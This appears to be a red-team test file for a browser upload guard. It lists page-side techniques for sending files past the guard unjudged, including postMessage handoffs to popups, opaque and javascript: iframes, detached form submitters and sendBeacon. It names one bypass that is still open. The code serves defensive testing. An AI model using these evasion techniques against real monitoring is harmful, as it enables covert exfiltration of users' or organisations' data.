@@ -1,0 +1,376 @@
+/**
+ * Red team web7 (2026-12-07): page-side techniques no earlier row tried, judged by the bytes that reach
+ * the server. Fixed with these rows: a native form sent by a submit button that stands outside it
+ * (`<button form="id">`), held for a scan and sent again without that button: a clean upload went to
+ * the form's own action, or nowhere when the page's submit handler sends `new FormData(form,
+ * e.submitter)` for that button only.
+ * Left open (declared as gaps): a cross-origin window on an allowed host, the guarded page's popup or
+ * opener, handed a File by postMessage, uploads it unjudged. The rest held (frames made from data: and
+ * javascript: URLs, document.write, text/plain forms, clones of a Request or Response, a blob: module,
+ * sendBeacon of a File, a folder input, a page under Trusted Types).
+ */
+import { dirname } from 'node:path';
+import type { Page } from 'playwright-core';
+import type { Arrival } from '../../support/index.js';
+import type { Payload, Technique } from '../harness.js';
+
+/** A page (any host) that uploads what it is handed by postMessage: a File, or a text. */
+const UPLOADER = `<!doctype html><meta charset="utf-8"><script>
+addEventListener('message', async (e) => {
+  const d = e.data || {};
+  if (!d.dest) return;
+  const fd = new FormData();
+  if (d.file) fd.append('file', d.file, d.file.name); else fd.append('text', d.text);
+  const r = await fetch(d.dest, { method: 'POST', body: fd }).then((r) => r.status, (err) => String(err));
+  e.source && e.source.postMessage({ done: r, nonce: d.nonce }, '*');
+});
+if (window.opener) opener.postMessage({ ready: location.href }, '*');
+</script>`;
+
+/**
+ * Open (red team web7 F1): a top-level window on an `allow`ed host that a guarded page opened, or that
+ * opened the guarded page, is a page of its own, unguarded: a File handed to it by `postMessage` (a
+ * cross-origin window's, which no hook of the sender can wrap) is uploaded unjudged, to any host.
+ */
+const POPUP_GAP = 'a cross-origin window on an allowed host (the guarded page\'s popup or opener) is not guarded: a File posted to it leaves unjudged';
+
+/** Arrived on this row's own endpoint only (`ch`): a clean upload that went elsewhere was broken. */
+const onChannel = (ch: string) => (arrivals: Arrival[], p: Payload) =>
+  arrivals.some((a) => a.channel === ch && (a.sha256 === p.sha256 || a.text?.includes(p.nonce) || a.name?.includes(p.nonce)));
+
+const rows: Technique[] = [
+  // ---- a cross-origin window on the allowed host, handed the File by postMessage ----
+  {
+    id: 'h7-popup-allowed-to-drive',
+    gap: { leaks: ['stamped-file', 'name-marked-file'], why: POPUP_GAP },
+    assets: { '/asset/h7-uploader.html': { type: 'text/html; charset=utf-8', body: UPLOADER } },
+    title: 'window.open() of a page on the allowed host; the File posted to it (w.postMessage), which uploads it to drive.google.com by CORS',
+    carries: ['file'],
+    run: async (p, t) => {
+      const ready = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.ready) { removeEventListener('message', h); r(e.source); } }));
+      const w = open(`https://intranet.example.org:${location.port}/asset/h7-uploader.html`, `h7p-${p.nonce}`);
+      if (!w) return 'no window';
+      await Promise.race([ready, t.sleep(5000)]);
+      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
+      w.postMessage({ file: t.file(p), dest: `https://drive.google.com:${location.port}/upload?ch=h7-popup-allowed-to-drive`, nonce: p.nonce }, '*');
+      const r = await Promise.race([done, t.sleep(4000)]);
+      w.close();
+      return r;
+    },
+  },
+  {
+    id: 'h7-popup-allowed-own',
+    gap: { leaks: ['stamped-file', 'name-marked-file'], why: POPUP_GAP },
+    assets: { '/asset/h7-uploader.html': { type: 'text/html; charset=utf-8', body: UPLOADER } },
+    title: 'window.open() of a page on the allowed host; the File posted to it, which uploads it to its own host',
+    carries: ['file'],
+    run: async (p, t) => {
+      const ready = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.ready) { removeEventListener('message', h); r(e.source); } }));
+      const w = open(`https://intranet.example.org:${location.port}/asset/h7-uploader.html`, `h7q-${p.nonce}`);
+      if (!w) return 'no window';
+      await Promise.race([ready, t.sleep(5000)]);
+      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
+      w.postMessage({ file: t.file(p), dest: `https://intranet.example.org:${location.port}/upload?ch=h7-popup-allowed-own`, nonce: p.nonce }, '*');
+      const r = await Promise.race([done, t.sleep(4000)]);
+      w.close();
+      return r;
+    },
+  },
+  {
+    id: 'h7-opener-allowed',
+    gap: { leaks: ['stamped-file', 'name-marked-file'], why: POPUP_GAP },
+    title: 'the guarded page is a popup of a page on the allowed host; it hands the File back by opener.postMessage, and the opener uploads it to drive.google.com',
+    carries: ['file'],
+    drive: async (page: Page, p: Payload) => {
+      // The opener: a tab on the control (allowed) host that uploads whatever its popup hands it.
+      const at = new URL(page.url());
+      const home = await page.context().newPage();
+      try {
+        const origin = at.origin;
+        at.hostname = 'intranet.example.org';
+        await home.goto(at.href);
+        const dest = `https://drive.google.com:${at.port}/upload?ch=h7-opener-allowed`;
+        await home.evaluate((dest) => {
+          addEventListener('message', (e) => {
+            const d = e.data as { file?: File };
+            if (!d?.file) return;
+            const fd = new FormData();
+            fd.append('file', d.file, d.file.name);
+            void fetch(dest, { method: 'POST', body: fd });
+          });
+        }, dest);
+        const popupP = home.waitForEvent('popup');
+        await home.evaluate((u) => void open(u, 'h7guarded'), `${origin}/techniques`);
+        const popup = await popupP;
+        await popup.waitForLoadState('load');
+        await popup.waitForTimeout(800);
+        await popup.evaluate((pp) => {
+          const w = window as unknown as { t: { file(p: unknown): File } };
+          window.opener.postMessage({ file: w.t.file(pp) }, '*');
+        }, PAGE_PAYLOAD(p));
+        await popup.waitForTimeout(p.marked ? 1500 : 3000);
+        await popup.close();
+      } finally {
+        await home.close();
+      }
+    },
+  },
+  // ---- opaque and script-made frame documents ----
+  {
+    id: 'h7-data-frame-upload',
+    title: 'an iframe whose src is a data: URL (an opaque origin) uploads the File it is posted to drive.google.com by CORS',
+    carries: ['file'],
+    run: async (p, t) => {
+      const f = document.createElement('iframe');
+      f.hidden = true;
+      f.src = `data:text/html,${encodeURIComponent(`<script>addEventListener('message', async (e) => {
+        const fd = new FormData(); fd.append('file', e.data.file, e.data.file.name);
+        const r = await fetch(e.data.dest, { method: 'POST', body: fd }).then((r) => r.status, (x) => String(x));
+        parent.postMessage({ done: r, nonce: e.data.nonce }, '*');
+      });</script>`)}`;
+      const loaded = new Promise((r) => f.addEventListener('load', r, { once: true }));
+      document.body.append(f);
+      await loaded;
+      await t.sleep(1500);
+      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
+      f.contentWindow!.postMessage({ file: t.file(p), dest: `https://${location.host}/upload?ch=h7-data-frame-upload`, nonce: p.nonce }, '*');
+      const r = await Promise.race([done, t.sleep(4000)]);
+      f.remove();
+      return r;
+    },
+  },
+  {
+    id: 'h7-jsurl-frame-fetch',
+    title: "an iframe navigated to a javascript: URL whose document's own script PUTs the parent's payload with its own fetch",
+    run: async (p, t) => {
+      const w = window as unknown as { h7: Record<string, unknown> };
+      w.h7 = { body: t.body(p), url: new URL(t.url('h7-jsurl-frame-fetch'), location.href).href };
+      const f = document.createElement('iframe');
+      f.hidden = true;
+      document.body.append(f);
+      f.src = `javascript:'<script>parent.h7.done = fetch(parent.h7.url, { method: "PUT", body: parent.h7.body }).then((r) => r.status, (e) => String(e))</script>'`;
+      for (let i = 0; i < 60 && !w.h7.done; i++) await t.sleep(100);
+      const r = await t.settle(w.h7.done as Promise<unknown>);
+      f.remove();
+      return r;
+    },
+  },
+  {
+    id: 'h7-docwrite-frame-fetch',
+    title: "a same-origin iframe rewritten with document.open()/write(): the written script PUTs the parent's payload with the frame's fetch",
+    run: async (p, t) => {
+      const w = window as unknown as { h7w: Record<string, unknown> };
+      w.h7w = { body: t.body(p), url: new URL(t.url('h7-docwrite-frame-fetch'), location.href).href };
+      const f = document.createElement('iframe');
+      f.hidden = true;
+      document.body.append(f);
+      const d = f.contentDocument!;
+      d.open();
+      d.write('<script>parent.h7w.done = fetch(parent.h7w.url, { method: "PUT", body: parent.h7w.body }).then((r) => r.status, (e) => String(e))</script>');
+      d.close();
+      for (let i = 0; i < 60 && !w.h7w.done; i++) await t.sleep(100);
+      const r = await t.settle(w.h7w.done as Promise<unknown>);
+      f.remove();
+      return r;
+    },
+  },
+  // ---- native forms: a submitter outside the form, text/plain ----
+  {
+    id: 'h7-submitter-outside',
+    title: 'a multipart form whose submit button stands outside it (form="id") with formaction/formtarget; requestSubmit(button)',
+    reached: onChannel('h7-submitter-outside'),
+    run: async (p, t) => {
+      const frame = Object.assign(document.createElement('iframe'), { name: `h7s-${p.nonce}`, hidden: true });
+      const form = Object.assign(document.createElement('form'), { id: `h7f-${p.nonce}`, method: 'post', enctype: 'multipart/form-data', action: t.url('h7-wrong-endpoint'), target: frame.name });
+      if (p.kind === 'file') {
+        const input = Object.assign(document.createElement('input'), { type: 'file', name: 'file' });
+        const dt = new DataTransfer();
+        dt.items.add(t.file(p));
+        input.files = dt.files;
+        form.append(input);
+      } else {
+        form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
+      }
+      const button = Object.assign(document.createElement('button'), { type: 'submit', textContent: 'Upload' });
+      button.setAttribute('form', form.id);
+      button.formAction = t.url('h7-submitter-outside');
+      button.formTarget = frame.name;
+      document.body.append(frame, form, button);
+      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
+      form.requestSubmit(button);
+      await Promise.race([loaded, t.sleep(8000)]);
+      form.remove();
+      button.remove();
+      frame.remove();
+    },
+  },
+  {
+    id: 'h7-submitter-inside',
+    title: 'reference: the same form with its button inside it (formaction/formtarget); requestSubmit(button)',
+    reached: onChannel('h7-submitter-inside'),
+    run: async (p, t) => {
+      const frame = Object.assign(document.createElement('iframe'), { name: `h7i-${p.nonce}`, hidden: true });
+      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'multipart/form-data', action: t.url('h7-wrong-endpoint'), target: frame.name });
+      if (p.kind === 'file') {
+        const input = Object.assign(document.createElement('input'), { type: 'file', name: 'file' });
+        const dt = new DataTransfer();
+        dt.items.add(t.file(p));
+        input.files = dt.files;
+        form.append(input);
+      } else {
+        form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
+      }
+      const button = Object.assign(document.createElement('button'), { type: 'submit', textContent: 'Upload' });
+      button.formAction = t.url('h7-submitter-inside');
+      button.formTarget = frame.name;
+      form.append(button);
+      document.body.append(frame, form);
+      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
+      form.requestSubmit(button);
+      await Promise.race([loaded, t.sleep(8000)]);
+      form.remove();
+      frame.remove();
+    },
+  },
+  {
+    id: 'h7-submitter-outside-spa',
+    title: "a form whose submit handler sends fetch(new FormData(form, e.submitter)) when the button (outside it, form=\"id\", name=intent value=upload) submitted it",
+    reached: onChannel('h7-submitter-outside-spa'),
+    run: async (p, t) => {
+      const form = Object.assign(document.createElement('form'), { id: `h7g-${p.nonce}`, method: 'post', enctype: 'multipart/form-data' });
+      if (p.kind === 'file') {
+        const input = Object.assign(document.createElement('input'), { type: 'file', name: 'file' });
+        const dt = new DataTransfer();
+        dt.items.add(t.file(p));
+        input.files = dt.files;
+        form.append(input);
+      } else {
+        form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
+      }
+      const button = Object.assign(document.createElement('button'), { type: 'submit', name: 'intent', value: 'upload', textContent: 'Upload' });
+      button.setAttribute('form', form.id);
+      let sent: Promise<unknown> | null = null;
+      form.addEventListener('submit', (e) => {
+        e.preventDefault();
+        if ((e.submitter as HTMLButtonElement | null)?.value !== 'upload') return;
+        sent = fetch(t.url('h7-submitter-outside-spa'), { method: 'POST', body: new FormData(form, e.submitter) });
+      });
+      document.body.append(form, button);
+      form.requestSubmit(button);
+      for (let i = 0; i < 80 && !sent; i++) await t.sleep(100);
+      const r = await t.settle(sent);
+      form.remove();
+      button.remove();
+      return r;
+    },
+  },
+  {
+    id: 'h7-form-text-plain',
+    title: 'a native form with enctype="text/plain" (a textarea), requestSubmit into a hidden frame',
+    carries: ['text'],
+    run: async (p, t) => {
+      const frame = Object.assign(document.createElement('iframe'), { name: `h7t-${p.nonce}`, hidden: true });
+      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action: t.url('h7-form-text-plain'), target: frame.name });
+      form.append(Object.assign(document.createElement('textarea'), { name: 'text', value: p.text }));
+      document.body.append(frame, form);
+      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
+      form.requestSubmit();
+      await Promise.race([loaded, t.sleep(8000)]);
+      form.remove();
+      frame.remove();
+    },
+  },
+  // ---- XHR, Response, modules ----
+  {
+    id: 'h7-response-clone',
+    title: 'new Response(file).clone().arrayBuffer() PUT by fetch',
+    carries: ['file'],
+    run: async (p, t) => {
+      const bytes = await new Response(t.file(p)).clone().arrayBuffer();
+      return t.settle(fetch(t.url('h7-response-clone'), { method: 'PUT', body: bytes }));
+    },
+  },
+  {
+    id: 'h7-request-clone-blob',
+    title: 'new Request(url, { body: file }).clone().blob() in a FormData as "upload.bin"',
+    carries: ['file'],
+    run: async (p, t) => {
+      const b = await new Request(location.href, { method: 'POST', body: t.file(p) }).clone().blob();
+      const fd = new FormData();
+      fd.append('file', b, 'upload.bin');
+      return t.settle(fetch(t.url('h7-request-clone-blob'), { method: 'POST', body: fd }));
+    },
+  },
+  {
+    id: 'h7-blob-module',
+    title: 'import() of a blob: JavaScript module whose default export PUTs the payload',
+    run: async (p, t) => {
+      const src = 'export default (url, body) => fetch(url, { method: "PUT", body }).then((r) => r.status, (e) => String(e));';
+      const url = URL.createObjectURL(new Blob([src], { type: 'text/javascript' }));
+      // Not import() itself: vitest rewrites that in this file, and this function runs in the page.
+      const load = new Function('u', 'return import(u)') as (u: string) => Promise<{ default: (u: string, b: unknown) => Promise<unknown> }>;
+      const mod = await load(url);
+      return mod.default(t.url('h7-blob-module'), t.body(p));
+    },
+  },
+  {
+    id: 'h7-beacon-raw',
+    title: 'navigator.sendBeacon(url, the File itself, or a Blob of the text)',
+    run: async (p, t) => {
+      navigator.sendBeacon(t.url('h7-beacon-raw'), p.kind === 'file' ? t.file(p) : new Blob([p.text], { type: 'text/plain;charset=utf-8' }));
+      await t.sleep(500);
+    },
+  },
+];
+
+const PAGE_PAYLOAD = (p: Payload) => ({ kind: p.kind, name: p.name, type: p.type, b64: p.b64, text: p.text, nonce: p.nonce });
+
+/** A page under Trusted Types (as Google's apps send): `require-trusted-types-for 'script'`, no policy allowed. */
+const TT_PAGE = `<!doctype html><html><head><meta charset="utf-8">
+<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'; trusted-types 'none'">
+<title>TT</title></head><body><input id="f" type="file"><script src="/asset/h7-tt.js"></script></body></html>`;
+const TT_SCRIPT = `window.up = (pp) => {
+  const fd = new FormData();
+  if (pp.kind === 'file') fd.append('file', new File([Uint8Array.from(atob(pp.b64), (c) => c.charCodeAt(0))], pp.name, { type: pp.type }));
+  else fd.append('text', pp.text);
+  return fetch('/upload?ch=h7-trusted-types', { method: 'POST', body: fd }).then((r) => r.status, (e) => String(e));
+};`;
+
+const MORE: Technique[] = [
+  {
+    id: 'h7-webkitdirectory',
+    title: 'a folder picked in an <input webkitdirectory> (its files uploaded with their relative paths on change)',
+    carries: ['file'],
+    drive: async (page: Page, p: Payload) => {
+      await page.evaluate(() => {
+        const i = Object.assign(document.createElement('input'), { type: 'file', id: 'h7dir', webkitdirectory: true });
+        i.addEventListener('change', () => {
+          const fd = new FormData();
+          for (const f of i.files!) fd.append('file', f, f.webkitRelativePath || f.name);
+          void fetch('/upload?ch=h7-webkitdirectory', { method: 'POST', body: fd });
+        });
+        document.body.append(i);
+      });
+      await page.setInputFiles('#h7dir', dirname(p.path)).catch((e: Error) => console.log('h7-webkitdirectory setInputFiles:', e.message.split('\n')[0]));
+      await page.waitForTimeout(p.marked ? 1500 : 3000);
+      await page.evaluate(() => document.getElementById('h7dir')?.remove());
+    },
+  },
+  {
+    id: 'h7-trusted-types',
+    title: "a page under Trusted Types (require-trusted-types-for 'script', no policy) that uploads a FormData with fetch",
+    assets: { '/asset/h7-tt.html': { type: 'text/html; charset=utf-8', body: TT_PAGE }, '/asset/h7-tt.js': { type: 'text/javascript', body: TT_SCRIPT } },
+    drive: async (page: Page, p: Payload) => {
+      const tt = await page.context().newPage();
+      try {
+        await tt.goto(new URL('/asset/h7-tt.html', page.url()).href);
+        await tt.evaluate((pp) => (window as unknown as { up(p: unknown): Promise<unknown> }).up(pp), PAGE_PAYLOAD(p)).catch(() => undefined);
+        await tt.waitForTimeout(300);
+      } finally {
+        await tt.close();
+      }
+    },
+  },
+];
+
+export default [...rows, ...MORE];
